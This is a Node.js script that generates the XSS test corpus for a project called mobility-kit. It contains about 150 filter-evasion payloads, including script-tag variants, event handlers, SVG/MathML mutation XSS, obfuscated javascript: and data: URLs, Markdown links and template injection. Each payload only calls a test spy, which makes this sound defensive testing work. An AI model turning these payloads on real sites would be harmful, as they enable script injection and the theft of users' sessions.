#!/usr/bin/env node
// Writes test/security/xss-payloads.json: the XSS corpus every text path of mobility-kit is tested
// with (feed import, HR writes, organisation names, the elements in Chromium). Every payload calls
// `__xss('<id>')` when it executes, so a test that installs `window.__xss` as a spy knows which one
// got through. Run `node test/security/generate-xss-payloads.mjs` after changing this file.
import { writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/** @type {{ id: string, class: string, payload: string }[]} */
const payloads = [];
const counters = new Map();
/** Add one payload; `make` gets the JS call that proves execution. */
function add(cls, make) {
  const n = (counters.get(cls) ?? 0) + 1;
  counters.set(cls, n);
  const id = `${cls}-${String(n).padStart(2, '0')}`;
  payloads.push({ id, class: cls, payload: make(`__xss('${id}')`, id) });
}
const entities = (s) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join('');
const hexEntities = (s) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const percent = (s) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const unicodeEscape = (s) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

// OWASP filter-evasion classics: script tags in every case and spacing.
for (const make of [
  (c) => `<script>${c}</script>`,
  (c) => `<SCRIPT>${c}</SCRIPT>`,
  (c) => `<ScRiPt>${c}</sCrIpT>`,
  (c) => `<script >${c}</script >`,
  (c) => `<script\n>${c}</script\n>`,
  (c) => `<script\t>${c}</script>`,
  (c) => `<script/x>${c}</script>`,
  (c) => `<script type="text/javascript">${c}</script>`,
  (c) => `<script type="module">${c}</script>`,
  (c) => `<<script>${c};//<</script>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<script src=data:text/javascript,${encodeURIComponent(c)}></script>`,
  (c) => `</title><script>${c}</script>`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `<!--<script>-->${c}<!--</script>-->`,
  (c) => `<script>/*</script><script>*/${c}</script>`,
  (c) => `<![CDATA[<script>${c}</script>]]>`,
  (c) => `<noscript><p title="</noscript><script>${c}</script>">`,
]) add('script', make);

// Images, SVG and event handlers.
for (const make of [
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<img src="x" onerror="${c}">`,
  (c) => `<IMG SRC=x ONERROR=${c}>`,
  (c) => `<img/src=x/onerror=${c}>`,
  (c) => `<img src=x onerror\n=\n${c}>`,
  (c) => `<img src=x onerror="&#x${'5f'};&#x5f;xss('${c.slice(7, -2)}')">`,
  (c) => `<img src=\`x\` onerror=${c}>`,
  (c) => `<img """><script>${c}</script>">`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg/onload=${c}>`,
  (c) => `<body onload=${c}>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `<audio src=x onerror=${c}>`,
  (c) => `<marquee onstart=${c}>x</marquee>`,
  (c) => `<div onmouseover="${c}" style="position:fixed;inset:0">x</div>`,
  (c) => `<a onclick="${c}" href="#">klik</a>`,
  (c) => `<select autofocus onfocus=${c}></select>`,
  (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  (c) => `<keygen autofocus onfocus=${c}>`,
  (c) => `<iframe onload=${c}></iframe>`,
  (c) => `<object data=x onerror=${c}></object>`,
  (c) => `<link rel=stylesheet href=x onerror=${c}>`,
  (c) => `<style onload=${c}></style>`,
  (c) => `<image src=x onerror=${c}>`,
  (c) => `<img src=x:alert(1) onerror=eval(atob('${Buffer.from(c).toString('base64')}'))>`,
]) add('handler', make);

// Frames, objects, embeds, base, meta refresh, forms.
for (const make of [
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c) => `<iframe srcdoc="&lt;img src=x onerror=parent.${c}&gt;"></iframe>`,
  (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
  (c) => `<iframe src="data:text/html,<script>parent.${c}</script>"></iframe>`,
  (c) => `<object data="javascript:parent.${c}"></object>`,
  (c) => `<object data="data:text/html;base64,${Buffer.from(`<script>parent.${c}</script>`).toString('base64')}"></object>`,
  (c) => `<embed src="javascript:parent.${c}">`,
  (c) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${c}'/>">`,
  (c) => `<base href="javascript:${c}//"><a href="x">x</a>`,
  (c) => `<base href="https://evil.example/"><script src="x.js"></script><!--${c}-->`,
  (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
  (c) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${c}</script>">`,
  (c) => `<form action="javascript:${c}"><button>verstuur</button></form>`,
  (c) => `<form><button formaction="javascript:${c}">x</button></form>`,
  (c) => `<isindex action="javascript:${c}" type=image>`,
  (c) => `<frameset onload=${c}>`,
]) add('embed', make);

// Styles: expressions, imports, url(javascript:).
for (const make of [
  (c) => `<style>@import 'javascript:${c}';</style>`,
  (c) => `<style>body{background:url("javascript:${c}")}</style>`,
  (c) => `<div style="background-image:url(javascript:${c})">x</div>`,
  (c) => `<div style="width:expression(${c})">x</div>`,
  (c) => `<style>*{x:expression(${c})}</style>`,
  (c) => `<link rel="stylesheet" href="javascript:${c}">`,
  (c) => `<style>@import url(data:text/css,*{}/*${c}*/);</style>`,
  (c) => `<style>li{list-style-image:url("javascript:${c}")}</style><ul><li>x</li></ul>`,
  (c) => `<div style="behavior:url(x.htc)" onfocus=${c}>x</div>`,
  (c) => `<style></style><img src=x onerror=${c}>`,
]) add('style', make);

// SVG and MathML: namespace confusion and mutation XSS.
for (const make of [
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script href="data:,${c}"></script></svg>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text x="10" y="20">klik</text></a></svg>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><set attributeName=onload to=${c} />`,
  (c) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`,
  (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
  (c) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${c}&gt;">`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
  (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  (c) => `<math><maction actiontype="statusline" xlink:href="javascript:${c}">klik</maction></math>`,
  (c) => `<noscript><style></noscript><img src=x onerror=${c}>`,
  (c) => `<svg><title><![CDATA[</title><img src=x onerror=${c}>]]></svg>`,
  (c) => `<template><script>${c}</script></template><img src=x onerror=${c}>`,
  (c) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${c}'/></svg>#x"/></svg>`,
]) add('svg-math', make);

// javascript:, vbscript:, data: URLs with entity, whitespace, case and encoding games.
const js = (c) => `javascript:${c}`;
for (const make of [
  (c) => `<a href="${js(c)}">klik</a>`,
  (c) => `<a href="JaVaScRiPt:${c}">klik</a>`,
  (c) => `<a href=" javascript:${c}">klik</a>`,
  (c) => `<a href="jav&#x09;ascript:${c}">klik</a>`,
  (c) => `<a href="jav&#x0A;ascript:${c}">klik</a>`,
  (c) => `<a href="jav\tascript:${c}">klik</a>`,
  (c) => `<a href="&#106;avascript:${c}">klik</a>`,
  (c) => `<a href="${entities('javascript:')}${c}">klik</a>`,
  (c) => `<a href="${hexEntities('javascript:')}${c}">klik</a>`,
  (c) => `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${c}">klik</a>`,
  (c) => `<a href="javascript&colon;${c}">klik</a>`,
  (c) => `<a href="${percent('javascript')}:${c}">klik</a>`,
  (c) => `<a href="\u0001javascript:${c}">klik</a>`,
  (c) => `<a href="vbscript:msgbox(&quot;${c}&quot;)">klik</a>`,
  (c) => `<a href="VBScript:${c}">klik</a>`,
  (c) => `<a href="data:text/html,<script>${c}</script>">klik</a>`,
  (c) => `<a href="data:text/html;base64,${Buffer.from(`<script>${c}</script>`).toString('base64')}">klik</a>`,
  (c) => `<a href="DATA:text/html,%3Cscript%3E${encodeURIComponent(c)}%3C/script%3E">klik</a>`,
  (c) => `<a href="javascript://%0a${c}">klik</a>`,
  (c) => `<a href="javascript:${unicodeEscape('__xss')}('${c.slice(7, -2)}')">klik</a>`,
  (c) => `<a href="java\0script:${c}">klik</a>`,
  (c) => `<a href="//evil.example/" onclick="${c}">klik</a>`,
  (c) => `<a xlink:href="javascript:${c}">klik</a>`,
  (c) => `<area href="javascript:${c}">`,
]) add('url', make);

// Markdown-link payloads for the restricted Markdown subset.
for (const make of [
  (c) => `[klik](javascript:${c})`,
  (c) => `[klik](JavaScript:${c})`,
  (c) => `[klik]( javascript:${c})`,
  (c) => `[klik](<javascript:${c}>)`,
  (c) => `[klik](javascript&#58;${c})`,
  (c) => `[klik](&#106;avascript:${c})`,
  (c) => `[klik](jav%09ascript:${c})`,
  (c) => `[klik](vbscript:${c})`,
  (c) => `[klik](data:text/html,<script>${c}</script>)`,
  (c) => `[klik](data:text/html;base64,${Buffer.from(`<script>${c}</script>`).toString('base64')})`,
  (c) => `<javascript:${c}>`,
  (c) => `[klik][ref]\n\n[ref]: javascript:${c}`,
  (c) => `[a [b](javascript:${c}) c](https://example.org/)`,
  (c) => `[[klik]](javascript:${c})`,
  (c) => `[klik](https://example.org/"onmouseover="${c})`,
  (c) => `[klik](https://example.org/'onmouseover='${c})`,
  (c) => `![foto](javascript:${c})`,
  (c) => `![x](x" onerror="${c})`,
  (c) => `**[klik](javascript:${c})**`,
  (c) => `- [klik](javascript:${c})\n- item`,
  (c) => `[klik](java\nscript:${c})`,
  (c) => `[<img src=x onerror=${c}>](https://example.org/)`,
  (c) => `*<script>${c}</script>*`,
]) add('markdown', make);

// Template literals and attribute breaking.
for (const make of [
  (c) => `"><svg/onload=${c}>`,
  (c) => `'><svg/onload=${c}>`,
  (c) => `'-${c}-'`,
  (c) => `";${c};//`,
  (c) => `\\";${c};//`,
  (c) => `</script><script>${c}</script>`,
  (c) => `\${${c}}`,
  (c) => `\`\${${c}}\``,
  (c) => `{{constructor.constructor('${c.replaceAll("'", '"')}')()}}`,
  (c) => `{{$on.constructor('${c.replaceAll("'", '"')}')()}}`,
  (c) => `<%= ${c} %>`,
  (c) => `" onfocus="${c}" autofocus x="`,
  (c) => `' onmouseover='${c}' x='`,
  (c) => `" style="animation-name:x" onanimationstart="${c}`,
  (c) => `<!--<img src="--><img src=x onerror=${c}//">`,
  (c) => `<x contenteditable onblur=${c}>x`,
  (c) => `<lit-html-template><?lit$123$>${c}`,
  (c) => `<?xml-stylesheet href="javascript:${c}"?>`,
]) add('template', make);

// Huge and unicode payloads.
add('unicode', (c) => `\u202E<img src=x onerror=${c}>\u202C gnitset`);
add('unicode', (c) => `ja\u200Bvascript:${c} <a href="ja\u200Bvascript:${c}">x</a>`);
add('unicode', (c) => `<scr\u0000ipt>${c}</scr\u0000ipt>`);
add('unicode', (c) => `<img src=x onerror=\u0000${c}>`);
add('unicode', (c) => `\uFEFF<svg onload=${c}>\u2028\u2029`);
add('unicode', (c) => `＜script＞${c}＜/script＞`);
add('unicode', (c) => `\u00BCscript\u00BE${c}\u00BC/script\u00BE`);
add('unicode', (c) => `<a href="\u2028javascript:${c}">x</a>`);
add('unicode', (c) => `👩🏽‍💻 <img src=x onerror=${c}> ✓ \uD83D`);
add('unicode', (c) => `\u0000\u0001\u001F<script>${c}</script>\u007F\u009F`);
add('huge', (c) => `${'<div>'.repeat(2000)}<img src=x onerror=${c}>${'</div>'.repeat(2000)}`);
add('huge', (c) => `${'a'.repeat(9000)}<script>${c}</script>`);
add('huge', (c) => `${'['.repeat(3000)}klik${']'.repeat(3000)}(javascript:${c})`);
add('huge', (c) => `${'*'.repeat(4000)}<svg onload=${c}>${'_'.repeat(4000)}`);
add('huge', (c) => Array.from({ length: 300 }, () => `<img src=x onerror=${c}>`).join(' '));

const file = fileURLToPath(new URL('./xss-payloads.json', import.meta.url));
writeFileSync(file, `${JSON.stringify({ description: 'XSS corpus for mobility-kit; generated by generate-xss-payloads.mjs. Each payload calls __xss(id) when it executes.', payloads }, null, 1)}\n`);
console.log(`${payloads.length} payloads in ${[...counters.keys()].length} classes → ${file}`);
